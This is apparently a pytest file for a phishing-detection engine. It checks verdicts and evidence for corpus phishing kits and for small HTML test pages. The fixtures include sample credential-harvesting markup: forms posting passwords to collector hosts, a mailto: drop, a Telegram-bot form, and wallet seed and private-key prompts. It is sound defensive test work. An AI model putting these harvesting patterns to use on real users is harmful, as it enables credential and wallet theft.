"""The phishing engine: credential forms and where their contents go.

The corpus kits (tests/testweb/sites/credential.py, plus login.test) are scanned for real and
each is checked for its verdict and the exact evidence; small DOMs check the rules one by one.
"""

from __future__ import annotations

import doctest
from datetime import UTC, datetime
from typing import Any
from urllib.parse import urlsplit

import pytest

from spyglass.analyze.verdicts import phishing as phishing_module
from spyglass.analyze.verdicts.base import EngineResult, Inputs
from spyglass.analyze.verdicts.phishing import Asks, phishing
from spyglass.models import RawCapture, Transaction, Verdicts
from tests.analyze.verdicts.conftest import CorpusReport
from tests.conftest import report_of


def engine_result(verdicts: Verdicts, name: str) -> dict[str, Any]:
    """The engine's result as the document has it."""
    return next(v for v in verdicts.engines.verdicts if v.engine == name).model_dump(mode="json")


# name -> (evidence kind, exact reason) the phishing engine must give; all malicious.
KITS: dict[str, list[tuple[str, str]]] = {
    "phish-login-o365": [
        (
            "credentials-cross-domain",
            "form posts passwords to collect.test (another site than login.test)",
        ),
    ],
    "phish-bank-chase": [
        (
            "credentials-cross-domain",
            "form posts passwords to gate-panel.test (another site than chase-online-verify.test)",
        ),
    ],
    "phish-bank-bare-ip": [
        (
            "credentials-bare-ip",
            "form posts passwords, card numbers and PINs to the bare IP address 127.0.0.53",
        ),
    ],
    "phish-exchange-telegram": [
        (
            "credentials-telegram",
            "a script sends passwords and one-time codes to a Telegram bot (api.telegram.org)",
        ),
    ],
    "phish-exchange-discord": [
        (
            "credentials-discord",
            "a script sends passwords and one-time codes to a Discord webhook (discord.com)",
        ),
    ],
    "phish-seed-metamask": [
        ("seed-phrase-form", "page asks for a 12-word wallet recovery phrase"),
        (
            "credentials-script-exfil",
            "a script posts a 12-word wallet recovery phrase to gate-panel.test "
            "(another site than metamask-wallet-restore.test)",
        ),
    ],
    "phish-seed-ledger": [
        ("seed-phrase-form", "page asks for a 24-word wallet recovery phrase"),
        (
            "kit-mailer",
            "form posts a 24-word wallet recovery phrase to send.php, a mailer name phishing "
            "kits use",
        ),
    ],
    "phish-obfuscated-paypal": [
        (
            "credentials-cross-domain",
            "form posts passwords to gate-panel.test (another site than paypal-secure-login.test)",
        ),
    ],
}


@pytest.mark.parametrize("name", sorted(KITS))
async def test_kit_is_phishing_with_its_evidence(name: str, corpus_report: CorpusReport) -> None:
    scanned = await corpus_report(name)
    assert scanned.sample.label == "phishing"
    result = engine_result(scanned.report.verdicts, "phishing")
    assert result["malicious"], result["evidence"]
    assert result["categories"] == ["phishing"]
    assert result["score"] >= 80
    found = [(e["kind"], e["reason"]) for e in result["evidence"]]
    for expected in KITS[name]:
        assert expected in found
    overall = scanned.report.verdicts.overall
    assert overall.malicious and "phishing" in overall.categories
    reasons = scanned.report.verdicts.spyglass.reasons
    assert KITS[name][0][1] in reasons


async def test_the_telegram_message_the_page_sent(corpus_report: CorpusReport) -> None:
    scanned = await corpus_report("phish-exchange-telegram")
    result = engine_result(scanned.report.verdicts, "phishing")
    sent = next(e for e in result["evidence"] if e["kind"] == "telegram-request")
    assert sent["reason"] == (
        "page posted to a Telegram bot (api.telegram.org) while asking for passwords and "
        "one-time codes"
    )
    assert sent["detail"]["bot"] == "7413829065"
    assert '"chat_id":"-1002184763920"' in sent["detail"]["post_data"]


async def test_cross_domain_evidence_names_the_action(corpus_report: CorpusReport) -> None:
    scanned = await corpus_report("phish-bank-chase")
    result = engine_result(scanned.report.verdicts, "phishing")
    cross = next(e for e in result["evidence"] if e["kind"] == "credentials-cross-domain")
    assert cross["detail"]["domain"] == "gate-panel.test"
    assert cross["detail"]["site"] == "gate-panel.test"
    assert cross["detail"]["method"] == "POST"
    action = urlsplit(cross["detail"]["action"])
    assert (action.hostname, action.path) == ("gate-panel.test", "/chase/next.php")
    assert "cross-domain-action" in result["tags"]


async def test_kit_posting_to_its_own_site_is_caught_by_the_brand(
    corpus_report: CorpusReport,
) -> None:
    # The Outlook kit posts to its own next.php: by its forms alone it could be a PHP login
    # (the kit-mailer name is suspicious only). Asking for a password on a page that shows
    # Microsoft's logo and name off Microsoft's domains is what makes it phishing.
    scanned = await corpus_report("phish-webmail-autograb")
    result = engine_result(scanned.report.verdicts, "phishing")
    found = {e["kind"]: e for e in result["evidence"]}
    assert found["kit-mailer"]["reason"] == (
        "form posts passwords to next.php, a mailer name phishing kits use"
    )
    assert found["brand-credentials"]["reason"] == "page impersonating Microsoft asks for passwords"
    assert result["malicious"] and result["brands"] == ["microsoft"]


@pytest.mark.parametrize(
    ("name", "brand", "reason"),
    [
        ("phish-bank-chase", "chase", "page impersonating Chase asks for passwords"),
        ("phish-obfuscated-paypal", "paypal", "page impersonating PayPal asks for passwords"),
        (
            "phish-seed-metamask",
            "metamask",
            "page impersonating MetaMask asks for a 12-word wallet recovery phrase",
        ),
    ],
)
async def test_credentials_on_an_impersonating_page(
    name: str, brand: str, reason: str, corpus_report: CorpusReport
) -> None:
    scanned = await corpus_report(name)
    result = engine_result(scanned.report.verdicts, "phishing")
    found = [(e["kind"], e["reason"]) for e in result["evidence"]]
    assert ("brand-credentials", reason) in found
    assert brand in result["brands"]


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        (
            "benign-saas-login",
            "page asks for passwords and sends them to its own site (acmeboard.test)",
        ),
        (
            "benign-bank-own-domain",
            "page asks for passwords and one-time codes and sends them to its own site "
            "(firstcity-cu.test)",
        ),
        ("benign-newsletter-thirdparty", None),
    ],
)
async def test_hard_negative_is_not_phishing(
    name: str, reason: str | None, corpus_report: CorpusReport
) -> None:
    scanned = await corpus_report(name)
    assert scanned.sample.hard_negative
    result = engine_result(scanned.report.verdicts, "phishing")
    assert not result["malicious"]
    assert result["score"] == 0
    assert [e["reason"] for e in result["evidence"]] == ([reason] if reason else [])
    assert not scanned.report.verdicts.overall.malicious


# ---------------------------------------------------------------- the rules, on small pages


def run(dom: str, url: str = "https://shop.example/login") -> EngineResult:
    now = datetime(2026, 1, 1, tzinfo=UTC)
    capture = RawCapture(url=url, final_url=url, started_at=now, finished_at=now, dom=dom)
    return phishing(Inputs(report=report_of(capture), capture=capture))


def test_mailto_action() -> None:
    result = run(
        '<form action="mailto:drop@mail.example?subject=log" method=post>'
        "<input name=email><input type=password name=pass></form>"
    )
    assert result.malicious
    assert [e.reason for e in result.evidence] == [
        "form emails passwords to drop@mail.example (mailto:)"
    ]


def test_form_action_on_the_telegram_api() -> None:
    result = run(
        '<form action="https://api.telegram.org/bot123456789:AAx/sendMessage" method=get>'
        "<input name=chat_id type=hidden><input type=password name=text></form>"
    )
    assert result.malicious and result.evidence[0].kind == "credentials-telegram"


def test_private_key_textarea_without_form() -> None:
    result = run(
        "<h2>Import wallet</h2><textarea id=privateKey placeholder='Paste your private key'>"
        "</textarea><button>Import</button>"
    )
    assert result.malicious
    assert result.evidence[0].reason == "page asks for a wallet private key"
    assert result.evidence[0].kind == "private-key-form"


def test_mnemonic_textarea() -> None:
    result = run("<form><textarea name=mnemonic></textarea><button>Restore</button></form>")
    assert result.malicious
    assert result.evidence[0].reason == "page asks for a wallet recovery phrase"


def test_twelve_inputs_without_phrase_wording_are_not_a_seed_grid() -> None:
    inputs = "".join(f"<input name=f{i}>" for i in range(12))
    result = run(f"<form action=/signup method=post>{inputs}</form>")
    assert not result.malicious and result.evidence == []


def test_card_form_on_its_own_checkout_is_ordinary() -> None:
    result = run(
        '<form action="/checkout/pay" method=post><input autocomplete=cc-number name=number>'
        "<input name=cvc placeholder=CVC></form>",
        url="https://shop.example/checkout",
    )
    assert not result.malicious and result.score == 0
    assert result.evidence[0].reason == (
        "page asks for card numbers and sends them to its own site (shop.example)"
    )


def test_subdomain_of_the_same_site_is_not_another_site() -> None:
    result = run(
        '<form action="https://auth.shop.example/session" method=post>'
        "<input type=password name=p></form>",
        url="https://www.shop.example/login",
    )
    assert not result.malicious


def test_a_post_to_a_collector_made_by_the_page() -> None:
    now = datetime(2026, 1, 1, tzinfo=UTC)
    url = "https://bank.example/"
    sent = Transaction(request_id="2", url="https://gate.example/panel/visit.php", method="POST",
                       resource_type="XHR", post_data="ip=1.2.3.4")  # fmt: skip
    capture = RawCapture(url=url, final_url=url, started_at=now, finished_at=now,
                         dom="<form action=/login method=post><input type=password></form>",
                         transactions=[sent])  # fmt: skip
    result = phishing(Inputs(report=report_of(capture), capture=capture))
    assert result.malicious
    assert [e.reason for e in result.evidence] == [
        "page posted data to gate.example (another site than bank.example) while asking for "
        "passwords"
    ]


def test_analytics_beacon_is_not_script_exfiltration() -> None:
    result = run(
        "<form action=/session method=post><input type=password name=p></form>"
        '<script>navigator.sendBeacon("https://www.google-analytics.com/g/collect", "v=2")'
        "</script>"
    )
    assert not result.malicious


def test_personal_fields_on_a_wallet_page_are_not_a_seed_grid() -> None:
    fields = ["first_name", "last_name", "email", "phone", "street", "city", "zip", "country",
              "state", "birth_date", "company", "username"]  # fmt: skip
    inputs = "".join(f"<input name={name}>" for name in fields)
    result = run(
        "<p>Never share your secret recovery phrase.</p>"
        f"<form action=/signup method=post>{inputs}<input type=password name=pw></form>"
    )
    assert not result.malicious


def test_docstring_examples() -> None:
    assert doctest.testmod(phishing_module).failed == 0


def test_asks_in_words() -> None:
    assert Asks(password=True, card=True, otp=True).words() == (
        "passwords, card numbers and one-time codes"
    )
